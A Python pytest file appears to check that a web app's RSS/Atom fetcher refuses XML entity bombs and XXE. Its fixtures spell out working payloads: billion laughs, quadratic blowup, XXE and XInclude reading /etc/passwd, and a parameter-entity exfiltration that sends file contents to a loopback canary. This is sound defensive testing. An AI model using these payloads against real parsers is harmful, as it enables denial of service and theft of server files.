"""XML attacks on the feed parser: entity bombs and XXE are refused or harmless, and quick.

The hostile feeds are served by a local server and fetched through the rss adapter, exactly as
a scheduled fetch would; a canary server on loopback counts any request an XML parser makes
for an external entity or DTD (it must stay at zero). The last tests hand the same documents to
feedparser directly, without our guard, to show that its own defences are a second net.
"""
from __future__ import annotations

import io
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import feedparser
import pytest

from webapp.core.egress import EgressPolicy
from webapp.monitors.sources.base import FetchContext, SourceError
from webapp.monitors.sources.rss import RssAdapter, parse_feed
from webapp.monitors.sources import xml_guard
from webapp.monitors.sources.xml_guard import refuse_entity_declarations

POLICY = EgressPolicy.from_setting("127.0.0.1")
PASSWD_MARK = "root:"   # the first line of /etc/passwd on every Linux


class _Handler(BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def do_GET(self):
        self.server.hits.append(self.path)
        body = self.server.bodies.get(self.path, b"<!ENTITY canary 'reached'>")
        self.send_response(200)
        self.send_header("Content-Type", self.server.types.get(self.path, "application/xml"))
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self):
        self.hits, self.bodies, self.types = [], {}, {}
        super().__init__(("127.0.0.1", 0), _Handler)
        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture(scope="module")
def servers():
    feeds, canary = _Server(), _Server()
    yield feeds, canary
    for server in (feeds, canary):
        server.shutdown()
        server.server_close()


def _rss(prolog: str, title: str) -> str:
    return (f'<?xml version="1.0"?>\n{prolog}\n<rss version="2.0"><channel><title>feed</title>'
            f'<item><guid>1</guid><title>{title}</title><description>body</description></item>'
            f'</channel></rss>')


def billion_laughs() -> str:
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return _rss("<!DOCTYPE lolz [\n" + "\n".join(levels) + "\n]>", "&lol9;")


def quadratic_blowup() -> str:   # one 50 kB entity referenced 50 000 times: 2.5 GB expanded
    return _rss(f'<!DOCTYPE r [<!ENTITY a "{"x" * 50_000}">]>', "&a;" * 50_000)


def fixtures(canary: str) -> dict[str, str]:
    return {
        "billion_laughs": billion_laughs(),
        "quadratic_blowup": quadratic_blowup(),
        "xxe_file": _rss('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "a &x; b"),
        "xxe_http": _rss(f'<!DOCTYPE r [<!ENTITY x SYSTEM "{canary}/xxe">]>', "a &x; b"),
        "xxe_public_id": _rss(f'<!DOCTYPE r [<!ENTITY x PUBLIC "-//A//B" "{canary}/pub">]>', "&x;"),
        "parameter_entity": _rss(f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{canary}/evil.dtd"> %p;]>', "t"),
        "parameter_entity_exfiltration": _rss(
            '<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/passwd">'
            f'<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'{canary}/?x=%file;\'>">'
            '%eval; %exfil;]>', "t"),
        "parameter_entity_bomb": _rss(
            '<!DOCTYPE r [<!ENTITY % a "xxxxxxxxxx"><!ENTITY % b "%a;%a;%a;%a;%a;%a;%a;%a;">'
            '<!ENTITY c "%b;%b;%b;%b;%b;%b;%b;%b;">]>', "&c;"),
        "unparsed_entity": _rss(
            f'<!DOCTYPE r [<!NOTATION gif SYSTEM "image/gif"><!ENTITY u SYSTEM "{canary}/u" NDATA gif>]>',
            "t"),
        "atom_xxe": ('<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                     '<feed xmlns="http://www.w3.org/2005/Atom"><title>f</title><entry><id>1</id>'
                     '<title>&x;</title><updated>2024-01-01T00:00:00Z</updated></entry></feed>'),
    }


# Encodings and wrappers a bomb may hide behind.
def utf16(doc: str) -> bytes:
    return doc.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16")


def junk_first(doc: str) -> bytes:   # expat stops at the junk; the textual check still sees it
    return b"\x00\xff junk " + doc.encode()


def cp037(doc: str) -> bytes:   # EBCDIC, which feedparser also detects
    return doc.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="cp037"?>').encode("cp037")


def serve(feeds: _Server, name: str, body: bytes, ctype="application/rss+xml") -> str:
    path = f"/{name}.xml"
    feeds.bodies[path], feeds.types[path] = body, ctype
    return feeds.base + path


def fetch_feed(url: str):
    return RssAdapter().fetch({"url": url}, {}, FetchContext(policy=POLICY))


NAMES = sorted(fixtures("http://x"))


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("wrap", ["utf-8", "utf-16", "junk_first", "cp037"])
def test_entity_declarations_are_refused_quickly(servers, name, wrap):
    feeds, canary = servers
    doc = fixtures(canary.base)[name]
    body = {"utf-8": str.encode, "utf-16": utf16, "junk_first": junk_first, "cp037": cp037}[wrap](doc)
    canary.hits.clear()
    started = time.monotonic()
    with pytest.raises(SourceError) as info:
        fetch_feed(serve(feeds, f"{name}-{wrap}", body))
    assert time.monotonic() - started < 10   # expanding the entities would take minutes
    assert info.value.code == "parse"
    assert "entities" in info.value.message
    assert len(str(info.value)) < 400   # the (possibly huge) entity value is not echoed
    assert canary.hits == []


def test_the_refusal_reads_only_the_prolog(monkeypatch):
    """The check stops at the root element: a 4 MB feed costs no more than its prolog."""
    big = _rss("", "x").replace("<description>body</description>",
                                "<description>" + "word " * 800_000 + "</description>")
    read = []

    class Counted(io.BytesIO):
        def read(self, size=-1):
            chunk = super().read(size)
            read.append(len(chunk))
            return chunk

    monkeypatch.setattr(xml_guard.io, "BytesIO", Counted)
    refuse_entity_declarations(big.encode())
    assert len(big) > 4_000_000 and 0 < sum(read) <= 2 * 65_536, sum(read)


def test_an_external_dtd_without_entities_is_parsed_and_never_fetched(servers):
    """RSS 0.91 feeds name the Netscape DTD: accepted, but nothing fetches that DTD."""
    feeds, canary = servers
    canary.hits.clear()
    for name, doctype in [("netscape", '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS '
                                       f'0.91//EN" "{canary.base}/rss-0.91.dtd">'),
                          ("system", f'<!DOCTYPE rss SYSTEM "{canary.base}/rss.dtd">')]:
        result = fetch_feed(serve(feeds, name, _rss(doctype, "fine title").encode()))
        assert [item.text for item in result.items] == ["fine title\nbody"]
    assert canary.hits == []


def test_xinclude_is_not_processed(servers):
    feeds, canary = servers
    canary.hits.clear()
    doc = _rss("", 'see <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
               f'href="{canary.base}/inc" parse="text"/> and '
               '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')
    result = fetch_feed(serve(feeds, "xinclude", doc.encode()))
    assert all(PASSWD_MARK not in item.text for item in result.items)
    assert canary.hits == []


def test_plain_feeds_still_parse(servers):
    feeds, _ = servers
    for name, body, ctype in [
        ("rss", _rss("", "hello &amp; welcome &#233;"), "application/rss+xml"),
        ("atom", '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>f</title>'
                 '<entry><id>1</id><title>atom hello</title><updated>2024-01-01T00:00:00Z</updated>'
                 '</entry></feed>', "application/atom+xml"),
    ]:
        result = fetch_feed(serve(feeds, f"plain-{name}", body.encode(), ctype))
        assert len(result.items) == 1


# -- feedparser alone (without the guard): harmless and bounded too --------------------------

@pytest.mark.parametrize("name", NAMES)
def test_feedparser_alone_neither_expands_nor_fetches(servers, name):
    _, canary = servers
    doc = fixtures(canary.base)[name].encode()
    canary.hits.clear()
    started = time.monotonic()
    parsed = feedparser.parse(io.BytesIO(doc), response_headers={"content-location": "http://x/"})
    assert time.monotonic() - started < 10   # expanding the entities would take minutes
    for entry in parsed.entries:
        title = entry.get("title", "")
        assert PASSWD_MARK not in title and "reached" not in title
        assert len(title) <= len(doc)   # nothing was expanded beyond the document itself
    assert canary.hits == []


def test_parse_feed_refuses_before_feedparser_sees_the_bytes():
    with pytest.raises(SourceError) as info:
        parse_feed(billion_laughs().encode(), "application/rss+xml", "http://x/")
    assert "EntitiesForbidden" in info.value.message
